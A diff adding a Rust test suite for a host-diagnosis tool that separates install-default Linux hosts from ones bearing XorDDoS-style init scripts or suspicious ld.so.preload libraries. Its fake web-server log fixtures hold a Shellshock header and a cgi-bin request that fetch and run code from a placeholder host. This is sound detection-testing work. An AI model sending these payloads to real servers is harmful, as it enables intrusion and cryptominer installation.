@@ -1,0 +1,142 @@
+//! Healthy hosts as distributions install them: nothing on them may be called an incident, and nobody may be accused.
+
+use std::path::Path;
+
+use holdfast_diagnose::model::Report;
+use holdfast_diagnose::{Options, analyse};
+
+fn put(folder: &Path, path: &str, text: &str) {
+    let path = folder.join(path);
+    std::fs::create_dir_all(path.parent().expect("a file in a folder")).expect("made");
+    std::fs::write(path, text).expect("written");
+}
+
+fn read(folder: &Path) -> Report {
+    analyse(&[folder.to_owned()], &Options::default(), &Default::default()).expect("readable")
+}
+
+/// An init script as Debian's packages write them.
+fn lsb(name: &str) -> String {
+    format!(
+        "#! /bin/sh\n### BEGIN INIT INFO\n# Provides:          {name}\n# Required-Start:    $local_fs $remote_fs $network\n\
+         # Default-Start:     2 3 4 5\n# Default-Stop:      0 1 6\n# Short-Description: {name}\n# Description:       {name}\n\
+         ### END INIT INFO\n\nDAEMON=/usr/sbin/{name}\ncase \"$1\" in\nstart)\n\tstart-stop-daemon --start --exec $DAEMON\n\t;;\nesac\n"
+    )
+}
+
+/// An init script as Red Hat's packages wrote them.
+fn chkconfig(name: &str) -> String {
+    format!(
+        "#!/bin/bash\n#\n# {name}\n# chkconfig: - 50 50\n# description: {name} is started here\n. /etc/rc.d/init.d/functions\n\
+         case \"$1\" in\n  start)\n\tdaemon /usr/sbin/{name}\n\t;;\nesac\n"
+    )
+}
+
+/// Three hosts with what Debian 12, Ubuntu 24.04 and Rocky 9 install, names of ten letters among it.
+fn hosts(folder: &Path) {
+    let names =
+        ["postgresql", "networking", "cryptdisks", "irqbalance", "keepalived", "prometheus", "supervisor"];
+    for host in ["debian", "ubuntu"] {
+        let put = |path: &str, text: &str| put(folder, &format!("{host}/{path}"), text);
+        for name in names {
+            put(&format!("etc/init.d/{name}"), &lsb(name));
+        }
+        put("etc/init.d/keyboard-setup.sh", &lsb("keyboard-setup.sh"));
+        put("etc/cron.hourly/.placeholder", "# DO NOT EDIT OR REMOVE\n");
+        put("etc/cron.hourly/ntpsec", "#!/bin/sh\nfor i in /var/log/ntpsec/*; do gzip -f \"$i\"; done\n");
+        put(
+            "etc/cron.d/e2scrub_all",
+            "30 3 * * 0 root test -e /run/systemd/system || /sbin/e2scrub_all -C\n",
+        );
+        put("etc/cron.daily/apt-compat", "#!/bin/sh\nset -e\nexec /usr/lib/apt/apt.systemd.daily\n");
+        put("etc/crontab", "17 *\t* * *\troot\tcd / && run-parts --report /etc/cron.hourly\n");
+        put("usr/lib/x86_64-linux-gnu/libudev.so.1", "not a log\n");
+        put("lib/udev/hwclock-set", "#!/bin/sh\n[ -e /run/systemd/system ] && exit 0\n");
+        put("etc/hostname", &format!("{host}\n"));
+        put("etc/ssh/sshd_config", "AuthorizedKeysFile .ssh/authorized_keys .ssh/authorized_keys2\n");
+        for (place, name) in [("S01", "postgresql"), ("S90", "supervisor"), ("K90", "networking")] {
+            let link = folder.join(format!("{host}/etc/rc3.d/{place}{name}"));
+            std::fs::create_dir_all(link.parent().expect("a folder")).expect("made");
+            std::os::unix::fs::symlink(format!("../init.d/{name}"), link).expect("linked");
+        }
+    }
+    // Monitoring agents, Raspberry Pi OS and old installers use this file; a comment or nothing loads nothing.
+    put(folder, "ubuntu/etc/ld.so.preload", "/lib64/liboneagentproc.so\n");
+    put(folder, "debian/etc/ld.so.preload", "# /tmp/was-here.so\n\n");
+    let rocky = |path: &str, text: &str| put(folder, &format!("rocky/{path}"), text);
+    rocky("etc/rc.d/init.d/netconsole", &chkconfig("netconsole"));
+    rocky("etc/init.d/netconsole", &chkconfig("netconsole"));
+    rocky("etc/rc.d/rc3.d/S90netconsole", &chkconfig("netconsole"));
+    rocky("etc/cron.hourly/0anacron", "#!/usr/bin/sh\nexec /usr/sbin/anacron -s\n");
+    rocky("etc/cron.d/0hourly", "SHELL=/bin/bash\n01 * * * * root run-parts /etc/cron.hourly\n");
+    rocky("etc/hostname", "rocky\n");
+    rocky(
+        "var/log/messages",
+        "Mar  3 10:00:00 rocky systemd[1]: Started Session 4 of User root.\n\
+         Mar  3 10:00:09 rocky sudo[9]: root : COMMAND=/bin/sh -c curl -fsSL https://get.docker.com | sh\n\
+         Mar  3 10:01:01 rocky CROND[81]: (root) CMD (run-parts /etc/cron.hourly)\n",
+    );
+    // What strangers ask of every web server, and what a scanner looks for.
+    rocky(
+        "var/log/httpd/access_log",
+        "203.0.113.9 - - [03/Mar/2025:10:02:00 +0000] \"GET /cgi-bin/x?c=wget+203.0.113.7/xmrig HTTP/1.1\" 404 196\n\
+         203.0.113.9 - - [03/Mar/2025:10:02:01 +0000] \"GET / HTTP/1.1\" 200 4 \"-\" \"() { :; }; curl 203.0.113.7/k | sh\"\n",
+    );
+    rocky("var/log/rkhunter/rkhunter.log", "[10:03:00]   Checking for file '/tmp/kinsing'   [ Not found ]\n");
+}
+
+fn accusations(report: &Report) -> Vec<(&str, &str, &str)> {
+    let bad = report.facts.iter().filter(|f| f.rule.starts_with("malware."));
+    bad.map(|f| (f.rule.as_str(), f.host.as_str(), f.evidence[0].file.as_str())).collect()
+}
+
+#[test]
+fn nobody_is_accused_on_hosts_as_they_are_installed() {
+    let dir = tempfile::tempdir().expect("a folder");
+    hosts(dir.path());
+    let report = read(dir.path());
+    assert_eq!(accusations(&report), []);
+    assert_eq!(report.causes.iter().map(|c| c.id.as_str()).collect::<Vec<_>>(), [""; 0]);
+    let preload: Vec<(&str, &str)> = report
+        .facts
+        .iter()
+        .filter(|f| f.rule == "config.preload")
+        .map(|f| (f.host.as_str(), f.evidence[0].text.as_str()))
+        .collect();
+    assert_eq!(preload, [("ubuntu", "/lib64/liboneagentproc.so")]);
+}
+
+#[test]
+fn the_same_hosts_with_one_real_init_script_are_infected() {
+    let dir = tempfile::tempdir().expect("a folder");
+    hosts(dir.path());
+    put(
+        dir.path(),
+        "debian/etc/init.d/tlvgyjdotz",
+        "#!/bin/sh\n# chkconfig: 12345 90 90\n# description: tlvgyjdotz\ncase $1 in\nstart)\n\t/usr/bin/tlvgyjdotz\n\t;;\nesac\n",
+    );
+    let report = read(dir.path());
+    assert_eq!(accusations(&report), [("malware.init-script", "debian", "debian/etc/init.d/tlvgyjdotz")]);
+    assert_eq!(report.causes.first().map(|c| c.id.as_str()), Some("malware-xorddos"));
+    let lines: Vec<(u64, &str)> =
+        report.facts[0].evidence.iter().map(|e| (e.line, e.text.as_str())).collect();
+    assert!(lines.contains(&(2, "# chkconfig: 12345 90 90")), "{lines:?}");
+}
+
+#[test]
+fn a_library_for_every_process_is_judged_by_where_it_lies() {
+    for (line, bad) in [
+        ("/usr/lib/arm-linux-gnueabihf/libarmmem-${PLATFORM}.so", false),
+        ("/lib/x86_64-linux-gnu/libsnoopy.so", false),
+        ("/etc/libsystem.so", true),
+        ("/usr/local/lib/libprocesshider.so", true),
+        ("/lib/libc.so /dev/shm/x.so", true),
+        ("/usr/lib/.x/y.so", true),
+    ] {
+        let dir = tempfile::tempdir().expect("a folder");
+        put(dir.path(), "n1/etc/ld.so.preload", line);
+        let report = read(dir.path());
+        assert_eq!(!accusations(&report).is_empty(), bad, "{line}");
+        assert_eq!(report.causes.first().map(|c| c.id.as_str()), bad.then_some("malware-other"), "{line}");
+    }
+}
